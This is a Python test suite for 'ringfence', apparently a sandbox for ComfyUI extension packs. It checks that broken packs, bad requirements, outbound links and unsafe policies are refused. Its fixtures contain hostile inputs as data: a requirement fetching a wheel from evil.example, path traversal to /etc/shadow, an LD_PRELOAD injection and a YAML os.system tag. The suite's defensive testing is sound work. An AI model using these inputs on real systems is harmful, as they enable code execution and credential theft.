"""Packs and policies that are wrong: a typed error on that extension, and nothing of it left running."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.comfy import Comfy, node, succeeded
from tests.stack import ROOT, Have, Stack

PACKS = ROOT / "tests" / "extensions"


def listed(comfy: Comfy, name: str) -> dict[str, Any]:
    found: dict[str, Any]
    (found,) = (x for x in comfy.get("/ringfence/v1/extensions")["extensions"] if x["name"] == name)
    return found


def containers_of(stack: Stack, extension: str) -> list[str]:
    """Containers of any state that the engine knows for an extension."""
    instance = stack.settings["RINGFENCE_INSTANCE"]
    form = "{{.Names}}"
    every = subprocess.run(
        ["docker", "ps", "--all", "--format", form, "--filter", f"label=ringfence.instance={instance}"],
        capture_output=True, text=True, timeout=60, check=True,
    ).stdout.split()  # fmt: skip
    return [name for name in every if extension.replace("_", "-") in name]


@pytest.mark.parametrize(
    ("pack", "says"),
    [
        ("raises_on_import", "RuntimeError: this pack needs a library that nobody has"),
        ("exits_on_import", "SystemExit: please install the full version first"),
        ("dies_on_import", "left with status 3"),
        ("hangs_on_import", "timeouts.import 3 s (adopted/hangs_on_import.yaml:1)"),
    ],
)
def test_a_pack_whose_import_goes_wrong_fails_alone(
    stack: Stack, comfy: Comfy, have: Have, tmp_path: Path, pack: str, says: str
) -> None:
    have("friendly_v1")
    succeeded(comfy.run({"1": node("RFReport", text="before")}))
    others = comfy.containers()
    policy = tmp_path / f"{pack}.yaml"
    policy.write_text("timeouts: {import: 3s}\n")

    said = stack.ringfence("extension", "add", str(PACKS / pack), "--policy", str(policy), status=1)
    assert f"'{pack}'" in said
    assert says in said
    found = listed(comfy, pack)
    assert (found["state"], found["sandbox"], found["node_count"]) == ("failed", "cold", 0)
    assert found["error"]["code"] == "extension_load_failed"
    assert says in found["error"]["message"]

    assert containers_of(stack, pack) == []
    assert comfy.containers() == others
    succeeded(comfy.run({"1": node("RFReport", text="after")}))
    stack.ringfence("extension", "remove", pack)


def test_a_pack_without_nodes_says_so(stack: Stack, comfy: Comfy, tmp_path: Path) -> None:
    (tmp_path / "nothing").mkdir()
    (tmp_path / "nothing" / "__init__.py").write_text("VALUE = 1\n")
    said = stack.ringfence("extension", "add", str(tmp_path / "nothing"), status=1)
    assert "NODE_CLASS_MAPPINGS" in said
    assert "comfy_entrypoint" in said
    assert listed(comfy, "nothing")["state"] == "failed"
    assert containers_of(stack, "nothing") == []
    stack.ringfence("extension", "remove", "nothing")


def test_a_requirement_that_nobody_can_meet_is_an_error_on_that_extension_only(
    stack: Stack, comfy: Comfy, have: Have, tmp_path: Path
) -> None:
    have("friendly_v1")
    pack = tmp_path / "greedy"
    pack.mkdir()
    (pack / "__init__.py").write_text("NODE_CLASS_MAPPINGS = {}\n")
    (pack / "requirements.txt").write_text("numpy<2\nnumpy>=2\n")
    said = stack.ringfence("extension", "add", str(pack), status=1)
    assert "numpy" in said
    assert listed(comfy, "greedy")["state"] == "failed"
    assert containers_of(stack, "greedy") == []
    succeeded(comfy.run({"1": node("RFReport", text="others live")}))
    stack.ringfence("extension", "remove", "greedy")


def test_a_requirement_from_elsewhere_is_refused_with_its_line(
    stack: Stack, comfy: Comfy, tmp_path: Path
) -> None:
    pack = tmp_path / "elsewhere"
    pack.mkdir()
    (pack / "__init__.py").write_text("NODE_CLASS_MAPPINGS = {}\n")
    (pack / "requirements.txt").write_text("einops\nevil @ https://evil.example/evil.whl\n")
    said = stack.ringfence("extension", "add", str(pack), status=1)
    assert "requirements.txt:2" in said
    stack.ringfence("extension", "remove", "elsewhere")


def test_a_link_out_of_a_pack_is_refused_by_its_name(stack: Stack, comfy: Comfy, tmp_path: Path) -> None:
    pack = tmp_path / "linking"
    shutil.copytree(PACKS / "probe", pack)
    (tmp_path / "private.txt").write_text("private")
    (pack / "outside.txt").symlink_to(tmp_path / "private.txt")
    assert "'outside.txt' is a link" in stack.ringfence("extension", "add", str(pack), status=2)
    assert "linking" not in {x["name"] for x in comfy.get("/ringfence/v1/extensions")["extensions"]}
    assert not list(stack.data_dir.rglob("outside.txt"))


BAD_POLICIES = {
    "unknown key": ("memory: 1GiB\nmemroy: 2GiB\n", 2, "did you mean 'memory'?"),
    "misplaced key": ("cpus: 1\npids: 64\nimport: 5s\n", 3, "timeouts"),
    "bad unit": ("# half a gigabyte\nmemory: 512M\n", 2, "write '512MiB'"),
    "over the ceiling": ("memory: 999TiB\n", 1, "is over the ceiling"),
    "path that climbs": ("paths:\n  - {tenant: input/../../etc}\n", 2, "climbs out"),
    "path that climbs from a root": ("paths:\n  - {host: /srv/../etc, mount: /mnt/x}\n", 2, "climbs"),
    "path outside the roots": ("paths:\n  - {host: /etc/shadow, mount: /mnt/x}\n", 2, "/etc/shadow"),
    "mount over the worker": ("paths:\n  - {host: /srv/x, mount: /opt/venv}\n", 2, "/opt/venv"),
    "environment of the linker": ("environment: {LD_PRELOAD: /tmp/x.so}\n", 1, "LD_PRELOAD"),
    "not YAML": ("memory: [1\n", 2, "not YAML"),
    "key twice": ("memory: 1GiB\nmemory: 2GiB\n", 2, "twice"),
    "tag": ("!!python/object/apply:os.system [id]\n", 1, "tags are not allowed"),
    "anchor": ("a: &a [1]\nb: *a\n", 1, "anchors"),
}


@pytest.mark.parametrize("case", BAD_POLICIES)
def test_a_wrong_policy_is_refused_with_file_line_and_what_to_write(
    stack: Stack, comfy: Comfy, tmp_path: Path, case: str
) -> None:
    text, line, words = BAD_POLICIES[case]
    policy = tmp_path / "probe.yaml"
    policy.write_text(text)
    said = stack.ringfence("policy", "check", str(policy), status=4)
    assert f"{policy}:{line}: " in said
    assert words in said
    checked = stack.ringfence("policy", "check", str(policy), "--json", status=4)["files"][0]
    assert not checked["valid"]
    assert checked["problems"][0]["line"] == line


@pytest.mark.parametrize("case", ["unknown key", "bad unit", "path that climbs"])
def test_a_pack_does_not_come_in_with_a_wrong_policy(
    stack: Stack, comfy: Comfy, tmp_path: Path, case: str
) -> None:
    text, line, words = BAD_POLICIES[case]
    policy = tmp_path / "slow.yaml"
    policy.write_text(text)
    said = stack.ringfence(
        "extension", "add", str(PACKS / "slow"), "--name", "unlucky", "--policy", str(policy), status=1
    )
    assert f"unlucky.yaml:{line}: " in said
    assert words in said
    assert "unlucky" not in {x["name"] for x in comfy.get("/ringfence/v1/extensions")["extensions"]}
    assert containers_of(stack, "unlucky") == []
    assert not (stack.data_dir / "policies" / "unlucky.yaml").exists()


def test_a_good_policy_passes_and_a_missing_file_is_a_usage_error(stack: Stack, tmp_path: Path) -> None:
    policy = tmp_path / "good.yaml"
    policy.write_text("memory: 512MiB\ntimeouts: {call: 1m}\n")
    assert "good" in stack.ringfence("policy", "check", str(policy))
    stack.ringfence("policy", "check", str(tmp_path / "nobody.yaml"), status=2)


def test_a_policy_inside_a_pack_grants_nothing(stack: Stack, comfy: Comfy, tmp_path: Path) -> None:
    pack = tmp_path / "wishes"
    pack.mkdir()
    (pack / "__init__.py").write_text((PACKS / "network_probe" / "__init__.py").read_text())
    (pack / "wishes.yaml").write_text("memory: 16GiB\n")
    (pack / "pyisolate.yaml").write_text("isolated: true\nshare_torch: true\nnetwork: true\n")
    stack.ringfence("extension", "add", str(pack))
    found = listed(comfy, "wishes")
    assert any("network" in asked for asked in found["asks"])
    policy = comfy.get("/ringfence/v1/policies/wishes")["policy"]
    assert not [row for row in policy if "wishes.yaml" in (row["file"] or "")]
    lines = succeeded(comfy.run({"1": node("RFNetworkProbe", host="1.1.1.2", port=80)}))["1"]["text"]
    assert not [line for line in lines if line.endswith("reached")]
    stack.ringfence("extension", "remove", "wishes")
